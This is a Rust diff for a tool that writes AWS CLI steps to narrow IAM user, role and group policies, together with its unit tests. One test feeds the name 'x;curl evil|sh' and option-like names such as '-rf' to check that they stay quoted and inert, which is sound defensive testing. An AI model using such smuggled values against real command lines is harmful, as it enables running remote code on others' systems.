@@ -3,68 +3,102 @@
 use std::collections::BTreeSet;
 
 use evenhand_model::catalog::Catalog;
+use evenhand_model::id::IdentityId;
 use evenhand_model::proposal::{ProposedFile, quoted};
 
 use super::document::{Naming, length};
 use super::fit::{ATTACHED, Fitted};
 use super::kind::Changed;
+use super::stays::{attached_policy, group_stays, inline_name};
 use crate::catalog::Catalogue;
-use crate::world::{Principal, World};
+use crate::world::{PolicyIx, Principal, World};
 
-/// The name of the inline policy that a proposal becomes.
+/// The name of the inline policy that a proposal becomes, unless it narrows one.
 const NAME: &str = "evenhand-right-sized";
+/// So much of a principal's name is part of the names of its policies, which have 128 characters at most. Source:
+/// <https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_iam-quotas.html>, "IAM name requirements".
+const LONGEST: usize = 90;
 
 /// The files of a proposal.
 pub(super) struct Written<'f> {
     /// The file of the inline policy, with its length.
-    inline: Option<(&'f str, usize)>,
+    pub(super) inline: Option<(&'f str, usize)>,
     managed: Vec<&'f str>,
     naming: Naming,
+    left_alone: &'f BTreeSet<PolicyIx>,
 }
 
 impl<'f> Written<'f> {
-    pub(super) fn of(fitted: &Fitted, inline: Option<&'f ProposedFile>, managed: &'f [ProposedFile]) -> Self {
+    pub(super) fn of(
+        fitted: &Fitted,
+        inline: Option<&'f ProposedFile>,
+        managed: &'f [ProposedFile],
+        left_alone: &'f BTreeSet<PolicyIx>,
+    ) -> Self {
         let size = fitted.inline.as_ref().map_or(0, length);
         Self {
             inline: inline.map(|file| (&*file.name, size)),
             managed: managed.iter().map(|file| &*file.name).collect(),
             naming: fitted.naming,
+            left_alone,
         }
+    }
+
+    /// Whether a policy that is attached under this name stays.
+    pub(super) fn stays(&self, world: &World, principal: &Principal, arn: &str) -> bool {
+        attached_policy(world, principal, arn).is_some_and(|policy| self.left_alone.contains(&policy))
     }
 }
 
 /// A managed policy of a proposal.
-struct Managed<'f> {
-    name: String,
-    arn: String,
+pub(super) struct Managed<'f> {
+    pub(super) name: String,
+    pub(super) arn: String,
     file: &'f str,
     /// Whether it is attached already, with the text of an earlier proposal.
-    is_held: bool,
+    pub(super) is_held: bool,
 }
 
 impl<'f> Managed<'f> {
-    fn of(principal: &Principal, files: &[&'f str]) -> Vec<Self> {
+    pub(super) fn of(world: &World, principal: &Principal, kind: Changed, written: &Written<'f>) -> Vec<Self> {
         let partition = principal.id.as_str().split(':').nth(1).unwrap_or("aws");
-        let each = (1..).zip(files).map(|(number, file): (u32, &&'f str)| {
-            let name = format!("{}-right-sized-{number}", policy_name(&principal.name));
+        let is_attached = |arn: &str| principal.attached.iter().any(|held| **held == *arn);
+        // A user and a role of one name are two, and so are their policies.
+        let names = (1_u32..).map(|number| {
+            let name = format!("{}-{}-right-sized-{number}", kind.word(), policy_name(&principal.name));
             let arn = format!("arn:{partition}:iam::{}:policy/{name}", principal.account.0);
-            let is_held = principal.attached.iter().any(|held| **held == *arn);
+            (name, arn)
+        });
+        // One that stays keeps its name and its text.
+        let free = names.filter(|(_, arn)| !is_attached(arn) || !written.stays(world, principal, arn));
+        let each = written.managed.iter().zip(free).map(|(file, (name, arn))| {
+            let is_held = is_attached(&arn);
             Self { name, arn, file: *file, is_held }
         });
         each.collect()
     }
 
-    /// How its text comes to AWS.
-    fn written(&self) -> String {
-        let file = quoted(self.file);
+    /// How its text comes to AWS, which keeps five versions of a policy. Source: `aws iam create-policy-version`. A policy
+    /// of an earlier proposal may be detached and still there.
+    pub(super) fn written(&self) -> Vec<String> {
+        let (file, arn) = (quoted(self.file), quoted(&self.arn));
+        let version = format!(
+            "aws iam create-policy-version --policy-arn {arn} --policy-document file://{file} --set-as-default"
+        );
         match self.is_held {
-            true => format!(
-                "aws iam create-policy-version --policy-arn {} --policy-document file://{file} --set-as-default",
-                quoted(&self.arn)
-            ),
-            false => {
-                format!("aws iam create-policy --policy-name {} --policy-document file://{file}", quoted(&self.name))
-            }
+            true => vec![
+                format!(
+                    "where it has five versions, which is all that AWS keeps, delete the oldest: aws iam \
+                     delete-policy-version --policy-arn {arn} --version-id \"$(aws iam list-policy-versions --policy-arn \
+                     {arn} --query {} --output text)\"",
+                    quoted("Versions[?!IsDefaultVersion].VersionId | [-1]")
+                ),
+                version,
+            ],
+            false => vec![format!(
+                "aws iam create-policy --policy-name={} --policy-document file://{file} || {version}",
+                quoted(&self.name)
+            )],
         }
     }
 }
@@ -72,7 +106,7 @@ impl<'f> Managed<'f> {
 /// A name as a part of a policy's: what IAM lets a name hold. Source: "IAM name requirements" of the IAM User Guide.
 fn policy_name(name: &str) -> String {
     let may = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '+' | '=' | ',' | '@');
-    name.chars().map(|c| if may(c) { c } else { '-' }).collect()
+    name.chars().take(LONGEST).map(|c| if may(c) { c } else { '-' }).collect()
 }
 
 /// What to do, and in which order.
@@ -86,12 +120,16 @@ pub(super) fn steps(world: &World, principal: &Principal, kind: Changed, written
              {date} and no others, and grants what AWS adds under it later"
         ));
     }
-    if written.managed.len() > ATTACHED {
-        steps.push(more_attached(kind, written.managed.len()));
+    let stay = principal.attached.iter().filter(|arn| written.stays(world, principal, arn)).count();
+    let attached = written.managed.len() + stay;
+    if attached > ATTACHED.max(principal.attached.len()) {
+        steps.push(more_attached(kind, attached));
     }
     match kind {
-        Changed::User | Changed::Role | Changed::Group => steps.extend(of_principal(world, principal, kind, written)),
-        Changed::PermissionSet => steps.extend(of_set(world, principal, written)),
+        Changed::User | Changed::Role | Changed::Group => {
+            steps.extend(of_principal(world, principal, kind, written, attached));
+        }
+        Changed::PermissionSet => steps.extend(super::permission_set::steps(world, principal, written)),
     }
     for missing in &principal.missing {
         steps.push(format!(
@@ -115,45 +153,96 @@ fn more_attached(kind: Changed, count: usize) -> String {
     )
 }
 
-fn of_principal(world: &World, principal: &Principal, kind: Changed, written: &Written<'_>) -> Vec<String> {
-    let word = kind.word();
-    let name = quoted(&principal.name);
-    let mut steps = Vec::new();
-    let groups: Vec<&Principal> = principal.groups.iter().filter_map(|group| world.principals.get(group)).collect();
-    let of_groups: BTreeSet<_> = groups.iter().flat_map(|group| &group.identity_policies).collect();
-    // The file of an inline policy takes the place of an earlier one, whose name it has.
-    let goes = |inline: &str| written.inline.is_none() || inline != NAME;
-    let (mut deleted, mut characters) = (Vec::new(), 0);
-    for policy in principal.identity_policies.iter().filter(|policy| !of_groups.contains(policy)) {
-        let label = world.policies.label(*policy);
-        if let Some(inline) = label.strip_prefix("inline policy ").filter(|inline| goes(inline)) {
-            characters += world.policies.characters(*policy);
-            deleted.push(format!("aws iam delete-{word}-policy --{word}-name {name} --policy-name {}", quoted(inline)));
+/// The inline policies of a principal itself.
+struct Inline {
+    /// Of those that are left alone.
+    stay: Vec<String>,
+    /// Of the others, with the characters of each.
+    go: Vec<(String, usize)>,
+    /// Characters of those that are left alone.
+    characters: usize,
+}
+
+impl Inline {
+    fn of(world: &World, principal: &Principal, written: &Written<'_>) -> Self {
+        let groups = principal.groups.iter().filter_map(|group| world.principals.get(group));
+        let of_groups: BTreeSet<_> = groups.flat_map(|group| &group.identity_policies).collect();
+        let mut inline = Self { stay: Vec::new(), go: Vec::new(), characters: 0 };
+        for policy in principal.identity_policies.iter().filter(|policy| !of_groups.contains(policy)) {
+            let (label, characters) = (world.policies.label(*policy), world.policies.characters(*policy));
+            let Some(name) = inline_name(&label) else { continue };
+            if written.left_alone.contains(policy) {
+                inline.stay.push(name.to_owned());
+                inline.characters += characters;
+            } else {
+                inline.go.push((name.to_owned(), characters));
+            }
+        }
+        inline
+    }
+
+    /// The name of the policy that is written. Where it is but a narrower form of one, `narrows`, it takes its place.
+    fn name(&self, narrows: bool) -> String {
+        match self.go.as_slice() {
+            [(only, _)] if narrows => only.clone(),
+            _ => {
+                let mut names = std::iter::once(NAME.to_owned()).chain((2_u32..).map(|at| format!("{NAME}-{at}")));
+                names.find(|name| !self.stay.contains(name)).unwrap_or_default()
+            }
         }
     }
+}
+
+/// `attached`: how many managed policies it has in the end.
+fn of_principal(
+    world: &World,
+    principal: &Principal,
+    kind: Changed,
+    written: &Written<'_>,
+    attached: usize,
+) -> Vec<String> {
+    let word = kind.word();
+    // A name may begin with a dash, and is no option of its own so.
+    let name = format!("--{word}-name={}", quoted(&principal.name));
+    let mut steps = Vec::new();
+    let leaves = |group: &&IdentityId| !group_stays(world, group, written.left_alone);
+    let groups: Vec<&Principal> =
+        principal.groups.iter().filter(leaves).filter_map(|group| world.principals.get(group)).collect();
+    let goes = |held: &str| !written.stays(world, principal, held);
+    let inline = Inline::of(world, principal, written);
+    let narrows = groups.is_empty() && !principal.attached.iter().any(|held| goes(held));
+    let own = inline.name(narrows);
+    // The file of an inline policy takes the place of one that has its name.
+    let gone: Vec<&(String, usize)> =
+        inline.go.iter().filter(|(held, _)| written.inline.is_none() || *held != own).collect();
+    let delete =
+        |(held, _): &&(String, usize)| format!("aws iam delete-{word}-policy {name} --policy-name={}", quoted(held));
+    let mut deleted: Vec<String> = gone.iter().map(delete).collect();
     if let Some((file, size)) = written.inline {
         let put = format!(
-            "aws iam put-{word}-policy --{word}-name {name} --policy-name {NAME} --policy-document file://{}",
+            "aws iam put-{word}-policy {name} --policy-name={} --policy-document file://{}",
+            quoted(&own),
             quoted(file)
         );
-        // Both count together until the old ones are gone.
-        if size + characters > kind.inline() {
+        // All count together until the old ones are gone.
+        let characters = size + inline.characters + gone.iter().map(|(_, characters)| characters).sum::<usize>();
+        if characters > kind.inline() {
             let room = format!("  # first: inline policies hold {} characters together", kind.inline());
             steps.extend(deleted.drain(..).map(|step| format!("{step}{room}")));
         }
         steps.push(put);
     }
-    let managed = Managed::of(principal, &written.managed);
-    let stays = |arn: &str| managed.iter().any(|policy| policy.is_held && *policy.arn == *arn);
+    let managed = Managed::of(world, principal, kind, written);
+    let is_again = |arn: &str| managed.iter().any(|policy| policy.is_held && *policy.arn == *arn);
     let mut detached = principal
         .attached
         .iter()
-        .filter(|held| !stays(held))
-        .map(|held| format!("aws iam detach-{word}-policy --{word}-name {name} --policy-arn {}", quoted(held)));
-    let most = ATTACHED.max(managed.len()).max(principal.attached.len());
+        .filter(|held| goes(held) && !is_again(held))
+        .map(|held| format!("aws iam detach-{word}-policy {name} --policy-arn {}", quoted(held)));
+    let most = ATTACHED.max(attached).max(principal.attached.len());
     let mut free = most - principal.attached.len();
     for policy in &managed {
-        steps.push(policy.written());
+        steps.extend(policy.written());
         if policy.is_held {
             continue;
         }
@@ -163,71 +252,13 @@ fn of_principal(world: &World, principal: &Principal, kind: Changed, written: &W
                 steps.extend(detached.next().map(|step| format!("{step}  # first: {most} may be attached at a time")))
             }
         }
-        steps.push(format!("aws iam attach-{word}-policy --{word}-name {name} --policy-arn {}", quoted(&policy.arn)));
+        steps.push(format!("aws iam attach-{word}-policy {name} --policy-arn {}", quoted(&policy.arn)));
     }
     for group in &groups {
-        steps.push(format!("aws iam remove-user-from-group --user-name {name} --group-name {}", quoted(&group.name)));
+        steps.push(format!("aws iam remove-user-from-group {name} --group-name={}", quoted(&group.name)));
     }
     steps.extend(detached);
     steps.extend(deleted);
-    steps
-}
-
-/// A permission set has at most one inline policy, and its policies are copied into accounts when it is provisioned.
-fn of_set(world: &World, principal: &Principal, written: &Written<'_>) -> Vec<String> {
-    // Where it is assigned is no part of its name.
-    let arn = principal.id.as_str().split('@').next().unwrap_or_default();
-    let instance = arn.split_once(":permissionSet/").and_then(|(before, rest)| {
-        let (instance, _) = rest.split_once('/')?;
-        Some(format!("{before}:instance/{instance}"))
-    });
-    let set = format!(
-        "--instance-arn {} --permission-set-arn {}",
-        quoted(instance.as_deref().unwrap_or("INSTANCE")),
-        quoted(arn)
-    );
-    let mut steps = Vec::new();
-    let has_inline =
-        principal.identity_policies.iter().any(|policy| world.policies.label(*policy).starts_with("inline policy "));
-    match written.inline {
-        Some((file, _)) => steps.push(format!(
-            "aws sso-admin put-inline-policy-to-permission-set {set} --inline-policy file://{}",
-            quoted(file)
-        )),
-        None if has_inline => steps.push(format!("aws sso-admin delete-inline-policy-from-permission-set {set}")),
-        None => {}
-    }
-    let managed = Managed::of(principal, &written.managed);
-    for policy in &managed {
-        steps.push(policy.written());
-        if !policy.is_held {
-            steps.push(format!(
-                "aws sso-admin attach-customer-managed-policy-reference-to-permission-set {set} \
-                 --customer-managed-policy-reference {}",
-                quoted(&format!("Name={},Path=/", policy.name))
-            ));
-        }
-    }
-    for held in principal.attached.iter().filter(|held| !managed.iter().any(|policy| *policy.arn == ***held)) {
-        let own = held.split_once(":policy/").filter(|(before, _)| !before.ends_with(":iam::aws"));
-        steps.push(match own {
-            Some((_, path)) => {
-                let (path, name) = path
-                    .rsplit_once('/')
-                    .map_or_else(|| ("/".to_owned(), path), |(path, name)| (format!("/{path}/"), name));
-                format!(
-                    "aws sso-admin detach-customer-managed-policy-reference-from-permission-set {set} \
-                     --customer-managed-policy-reference {}",
-                    quoted(&format!("Name={name},Path={path}"))
-                )
-            }
-            None => format!(
-                "aws sso-admin detach-managed-policy-from-permission-set {set} --managed-policy-arn {}",
-                quoted(held)
-            ),
-        });
-    }
-    steps.push(format!("aws sso-admin provision-permission-set {set} --target-type ALL_PROVISIONED_ACCOUNTS"));
     steps
 }
 
@@ -236,21 +267,21 @@ mod tests {
     use std::sync::Arc;
 
     use evenhand_model::access::Slice;
-    use evenhand_model::id::IdentityId;
     use evenhand_model::opset::OpSet;
     use evenhand_model::proposal::{Kept, NoProposal, Proposal};
 
     use super::*;
 
     const ACCOUNT: &str = "111122223333";
+    /// What goes in most tests; every inline policy of a test holds the first.
+    const GONE: [&str; 2] = ["sqs:DeleteQueue", "ec2:RunInstances"];
 
-    /// What is proposed for a user that keeps all that it holds.
-    fn proposed(user: &str, group: &str, name: &str) -> Result<Proposal, NoProposal> {
-        proposed_without(user, group, name, &OpSet::new())
+    fn gone() -> OpSet {
+        Catalogue::global().all_of(GONE)
     }
 
-    /// The same without some operations.
-    fn proposed_without(user: &str, group: &str, name: &str, gone: &OpSet) -> Result<Proposal, NoProposal> {
+    /// What is proposed for a user without some operations. The documents of the policies are those that were read.
+    fn proposed(user: &str, group: &str, name: &str, policies: &str, gone: &OpSet) -> Result<Proposal, NoProposal> {
         let user = format!(
             r#"{{"Path":"/","UserName":"{name}","Arn":"arn:aws:iam::{ACCOUNT}:user/{name}",
             "CreateDate":"2026-01-02T03:04:05+00:00","GroupList":["g"],{user}}}"#
@@ -259,7 +290,7 @@ mod tests {
             r#"{{"Path":"/","GroupName":"g","Arn":"arn:aws:iam::{ACCOUNT}:group/g",
             "CreateDate":"2026-01-02T03:04:05+00:00","GroupPolicyList":[],{group}}}"#
         );
-        let read = crate::tests::read(&[("details.json", &crate::tests::details(&user, &group, "", ""))]);
+        let read = crate::tests::read(&[("details.json", &crate::tests::details(&user, &group, "", policies))]);
         let id = IdentityId::from(format!("arn:aws:iam::{ACCOUNT}:user/{name}"));
         let access = read.resolver.access(&id).unwrap();
         let cut = |slice: &Slice| Slice { operations: Arc::new(slice.operations.difference(gone)), ..slice.clone() };
@@ -269,7 +300,7 @@ mod tests {
     }
 
     fn steps_of(user: &str, group: &str, name: &str) -> Vec<String> {
-        proposed(user, group, name).unwrap().steps
+        proposed(user, group, name, "", &gone()).unwrap().steps
     }
 
     fn attached(names: &[String]) -> String {
@@ -283,10 +314,32 @@ mod tests {
         names.iter().map(|name| (*name).to_owned()).collect()
     }
 
-    fn inline(name: &str, action: &str) -> String {
+    fn document(actions: &[&str]) -> String {
+        let actions: Vec<String> = actions.iter().map(|action| format!("\"{action}\"")).collect();
         format!(
-            r#""UserPolicyList":[{{"PolicyName":"{name}","PolicyDocument":{{"Version":"2012-10-17","Statement":[
-            {{"Effect":"Allow","Action":"{action}","Resource":"*"}}]}}}}]"#
+            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":[{}],"Resource":"*"}}]}}"#,
+            actions.join(",")
+        )
+    }
+
+    fn inlines(policies: &[(&str, &[&str])]) -> String {
+        let policy = |(name, actions): &(&str, &[&str])| {
+            format!(r#"{{"PolicyName":"{name}","PolicyDocument":{}}}"#, document(actions))
+        };
+        let policies: Vec<String> = policies.iter().map(policy).collect();
+        format!(r#""UserPolicyList":[{}]"#, policies.join(","))
+    }
+
+    /// An inline policy of which something goes.
+    fn inline(name: &str, action: &str) -> String {
+        inlines(&[(name, &[action, GONE[0]])])
+    }
+
+    fn managed(name: &str, actions: &[&str]) -> String {
+        format!(
+            r#"{{"PolicyName":"{name}","Arn":"arn:aws:iam::{ACCOUNT}:policy/{name}","PolicyVersionList":[
+            {{"VersionId":"v1","IsDefaultVersion":true,"Document":{}}}]}}"#,
+            document(actions)
         )
     }
 
@@ -300,36 +353,99 @@ mod tests {
         let steps = steps_of(&user, &attached(&names(&["Shared", "OfGroup"])), "agent");
         let detached = |name: &str| {
             let step = format!(
-                "aws iam detach-user-policy --user-name agent --policy-arn arn:aws:iam::{ACCOUNT}:policy/{name}"
+                "aws iam detach-user-policy --user-name=agent --policy-arn arn:aws:iam::{ACCOUNT}:policy/{name}"
             );
             steps.contains(&step)
         };
         assert!(detached("Shared") && detached("Own") && !detached("OfGroup"), "{steps:#?}");
-        let put = "aws iam put-user-policy --user-name agent --policy-name evenhand-right-sized";
+        let put = "aws iam put-user-policy --user-name=agent --policy-name=evenhand-right-sized";
         assert!(steps.first().unwrap().starts_with(put), "{steps:#?}");
         assert!(!steps.iter().any(|step| step.contains("delete-user-policy")), "it is replaced: {steps:#?}");
     }
 
     #[test]
+    fn policies_of_which_everything_may_stay_are_left_alone() {
+        let policies = [managed("Read", &["ec2:Describe*", "sns:Get*"]), managed("Queues", &["sqs:*"])].join(",");
+        let actions = ["dynamodb:Get*", "dynamodb:Query", "iam:PassRole"];
+        let both = [("act", &actions[..]), ("models", &["bedrock:InvokeModel*"])];
+        let user = format!("{},{}", inlines(&both), attached(&names(&["Read"])));
+        let told = |user: &str, group: &str, gone: &str| {
+            proposed(user, group, "agent", &policies, &Catalogue::global().all_of([gone])).unwrap()
+        };
+        // One statement loses one action: one policy is written anew, under its own name and with its own wildcards.
+        let proposal = told(&user, &attached(&[]), "iam:PassRole");
+        let put = "aws iam put-user-policy --user-name=agent --policy-name=act --policy-document \
+                   file://user-agent.policy.json";
+        assert_eq!(proposal.steps, [put]);
+        let [file] = proposal.files.as_slice() else { panic!("{proposal:?}") };
+        let written: serde_json::Value = serde_json::from_str(&file.text).unwrap();
+        assert_eq!(written["Statement"][0]["Action"], serde_json::json!(["dynamodb:Get*", "dynamodb:Query"]));
+        // One that is attached loses one: the others stay.
+        let steps = told(&user, &attached(&[]), "sns:GetTopicAttributes").steps;
+        let [put, detach] = steps.as_slice() else { panic!("{steps:#?}") };
+        assert!(put.contains(" --policy-name=evenhand-right-sized ") && detach.ends_with(":policy/Read"), "{steps:#?}");
+        // A group goes with all of its policies, what is attached besides stays.
+        let group = attached(&names(&["Read", "Queues"]));
+        let steps = told(&user, &group, GONE[0]).steps;
+        let leave = "aws iam remove-user-from-group --user-name=agent --group-name=g";
+        assert!(steps.iter().any(|step| step == leave), "{steps:#?}");
+        assert!(!steps.iter().any(|step| step.contains("detach") || step.contains("delete")), "{steps:#?}");
+        let steps = told(&user, &group, "iam:PassRole").steps;
+        assert!(!steps.iter().any(|step| step.contains("group")), "{steps:#?}");
+        assert_eq!(told(&user, &group, "ec2:RunInstances"), Proposal::default());
+    }
+
+    #[test]
+    fn what_a_policy_that_goes_denies_what_stays_stays_denied() {
+        let deny = r#"{"Effect":"Deny","Action":"s3:DeleteObject","Resource":"arn:aws:s3:::keep/*"}"#;
+        let mixed = document(&[GONE[0], "sqs:ListQueues"]).replace("[{\"Effect", &format!("[{deny},{{\"Effect"));
+        let user = format!(
+            r#""UserPolicyList":[{{"PolicyName":"mixed","PolicyDocument":{mixed}}},
+            {{"PolicyName":"wide","PolicyDocument":{}}}],{}"#,
+            document(&["s3:*"]),
+            attached(&[])
+        );
+        let proposal = proposed(&user, &attached(&[]), "agent", "", &gone()).unwrap();
+        let [file] = proposal.files.as_slice() else { panic!("{proposal:?}") };
+        assert!(file.text.contains("arn:aws:s3:::keep/*") && file.text.contains("\"Deny\""), "{}", file.text);
+        assert!(!file.text.contains("s3:Get") && !file.text.contains("s3:*"), "{}", file.text);
+        let put = "aws iam put-user-policy --user-name=agent --policy-name=mixed";
+        assert!(proposal.steps.len() == 1 && proposal.steps[0].starts_with(put), "{:#?}", proposal.steps);
+    }
+
+    #[test]
     fn managed_policies_of_an_earlier_proposal_are_written_anew_and_stay_attached() {
-        let held = names(&["agent-right-sized-1", "agent-right-sized-99"]);
+        let held = names(&["user-agent-right-sized-1", "user-agent-right-sized-99"]);
         let steps = steps_of(&format!("{},{}", inline("old", "ec2:*"), attached(&held)), &attached(&[]), "agent");
         let has = |step: &str| steps.iter().any(|held| held == step);
-        let arn = |number: u32| format!("arn:aws:iam::{ACCOUNT}:policy/agent-right-sized-{number}");
-        assert!(
-            has(&format!(
-                "aws iam create-policy-version --policy-arn {} --policy-document file://user-agent.policy-1.json \
-                 --set-as-default",
-                arn(1)
-            )),
-            "{steps:#?}"
+        let arn = |number: u32| format!("arn:aws:iam::{ACCOUNT}:policy/user-agent-right-sized-{number}");
+        let version = format!(
+            "aws iam create-policy-version --policy-arn {} --policy-document file://user-agent.policy-1.json \
+             --set-as-default",
+            arn(1)
         );
-        assert!(has(&format!("aws iam attach-user-policy --user-name agent --policy-arn {}", arn(2))), "{steps:#?}");
-        assert!(has(&format!("aws iam detach-user-policy --user-name agent --policy-arn {}", arn(99))), "{steps:#?}");
-        assert!(!has(&format!("aws iam detach-user-policy --user-name agent --policy-arn {}", arn(1))), "{steps:#?}");
-        assert!(!steps.iter().any(|step| step.contains("create-policy --policy-name agent-right-sized-1 ")));
-        let gone = "aws iam delete-user-policy --user-name agent --policy-name old";
+        let oldest = steps.iter().position(|step| step.starts_with("where it has five versions")).unwrap();
+        assert_eq!(steps[oldest + 1], version, "{steps:#?}");
+        assert!(has(&format!("aws iam attach-user-policy --user-name=agent --policy-arn {}", arn(2))), "{steps:#?}");
+        assert!(has(&format!("aws iam detach-user-policy --user-name=agent --policy-arn {}", arn(99))), "{steps:#?}");
+        assert!(!has(&format!("aws iam detach-user-policy --user-name=agent --policy-arn {}", arn(1))), "{steps:#?}");
+        assert!(!steps.iter().any(|step| step.contains("create-policy --policy-name=user-agent-right-sized-1 ")));
+        // One that was detached is written again where it still is.
+        let made = &steps[at(&steps, "aws iam create-policy --policy-name=user-agent-right-sized-2 ")];
+        let again = format!(" || aws iam create-policy-version --policy-arn {} ", arn(2));
+        assert!(made.contains(&again), "{made}");
+        let gone = "aws iam delete-user-policy --user-name=agent --policy-name=old";
         assert!(steps.iter().any(|step| step.starts_with(gone)), "{steps:#?}");
+    }
+
+    #[test]
+    fn a_managed_policy_that_stays_keeps_its_name_to_itself() {
+        let held = names(&["user-agent-right-sized-1"]);
+        let policies = managed(&held[0], &["s3:GetObject"]);
+        let user = format!("{},{}", inline("old", "ec2:*"), attached(&held));
+        let steps = proposed(&user, &attached(&[]), "agent", &policies, &gone()).unwrap().steps;
+        assert!(!steps.iter().any(|step| step.contains("right-sized-1")), "{steps:#?}");
+        assert!(steps.iter().any(|step| step.contains("--policy-name=user-agent-right-sized-2 ")), "{steps:#?}");
     }
 
     #[test]
@@ -347,39 +463,29 @@ mod tests {
     }
 
     #[test]
-    fn an_inline_policy_for_which_there_is_no_room_beside_the_old_one_comes_after_it_is_gone() {
-        let padding = "x".repeat(1_900);
-        let old = format!(
-            r#""UserPolicyList":[{{"PolicyName":"old","PolicyDocument":{{"Version":"2012-10-17","Statement":[
-            {{"Effect":"Allow","Action":["s3:GetObject","sqs:{padding}"],"Resource":"*"}}]}}}}]"#
-        );
-        let steps = steps_of(&format!("{old},{}", attached(&[])), &attached(&[]), "agent");
-        let (put, gone) = (at(&steps, "aws iam put-user-policy"), at(&steps, "aws iam delete-user-policy"));
-        assert!(gone < put, "{steps:#?}");
-        let steps = steps_of(&format!("{},{}", inline("old", "s3:GetObject"), attached(&[])), &attached(&[]), "agent");
-        let (put, gone) = (at(&steps, "aws iam put-user-policy"), at(&steps, "aws iam delete-user-policy"));
-        assert!(put < gone, "{steps:#?}");
+    fn an_inline_policy_for_which_there_is_no_room_beside_the_old_ones_comes_after_they_are_gone() {
+        let padding = format!("sqs:{}", "x".repeat(1_700));
+        for (padding, first) in [(&*padding, true), ("sqs:SendMessage", false)] {
+            let two = [("a", &["s3:GetObject", GONE[0], padding][..]), ("b", &["s3:PutObject", GONE[0]])];
+            let steps = steps_of(&format!("{},{}", inlines(&two), attached(&[])), &attached(&[]), "agent");
+            let (put, gone) = (at(&steps, "aws iam put-user-policy"), at(&steps, "aws iam delete-user-policy"));
+            assert_eq!(gone < put, first, "{steps:#?}");
+        }
     }
 
     #[test]
-    fn names_that_somebody_chose_are_words_of_a_command() {
+    fn names_that_somebody_chose_are_words_of_a_command_and_no_options() {
         let name = "x;curl evil|sh";
         let user = format!("{},{}", inline("a b", "s3:GetObject"), attached(&[]));
         let steps = steps_of(&user, &attached(&[]), name);
-        assert!(steps.iter().all(|step| step.contains("--user-name 'x;curl evil|sh'")), "{steps:#?}");
-        assert!(steps.iter().any(|step| step.ends_with("--policy-name 'a b'")), "{steps:#?}");
+        assert!(steps.iter().all(|step| step.contains("--user-name='x;curl evil|sh'")), "{steps:#?}");
+        assert!(steps.iter().any(|step| step.contains(" --policy-name='a b' ")), "{steps:#?}");
+        let user = format!("{},{}", inline("--all", "s3:GetObject"), attached(&[]));
+        let steps = steps_of(&user, &attached(&[]), "-rf");
+        assert!(steps.iter().all(|step| step.contains(" --user-name=-rf --policy-name=--all ")), "{steps:#?}");
         assert_eq!(policy_name("my_agent@acme"), "my_agent@acme");
         assert_eq!(policy_name("a b/c"), "a-b-c");
-    }
-
-    #[test]
-    fn everything_is_one_wildcard_and_the_steps_say_so() {
-        let user = format!("{},{}", inline("old", "*"), attached(&[]));
-        let proposal = proposed(&user, &attached(&[]), "agent").unwrap();
-        let [file] = proposal.files.as_slice() else { panic!("{:?}", proposal.steps) };
-        assert_eq!(file.name, "user-agent.policy.json");
-        assert!(file.text.contains("\"*\""), "{}", file.text);
-        assert!(proposal.steps[0].starts_with("read the wildcards"), "{:?}", proposal.steps);
+        assert_eq!(policy_name(&"x".repeat(128)).len(), LONGEST);
     }
 
     #[test]
@@ -388,17 +494,13 @@ mod tests {
         for operation in OpSet::all(Catalogue::global().len()).iter().filter(|at| at.0 % 2 == 0) {
             list.push(Catalogue::global().name(operation).to_string());
         }
-        let user = format!(
-            "{},{}",
-            inline("old", &list.join("\",\""))
-                .replace("\"Action\":\"", "\"Action\":[\"")
-                .replace("\",\"Resource\"", "\"],\"Resource\""),
-            attached(&[])
-        );
+        let actions: Vec<&str> = list.iter().map(String::as_str).collect();
+        let user = format!("{},{}", inlines(&[("old", &actions)]), attached(&[]));
         let first = Catalogue::global().expand(&list[0]);
-        let refused = proposed_without(&user, &attached(&[]), "agent", &first).unwrap_err();
+        let refused = proposed(&user, &attached(&[]), "agent", "", &first).unwrap_err();
         assert!(refused.reason.contains("does not fit") && refused.reason.contains("too many"), "{refused:?}");
         // Where nothing goes, nothing is written anew.
-        assert_eq!(proposed(&user, &attached(&[]), "agent").unwrap(), Proposal::default());
+        let whole = proposed(&user, &attached(&[]), "agent", "", &OpSet::new()).unwrap();
+        assert_eq!(whole, Proposal::default());
     }
 }
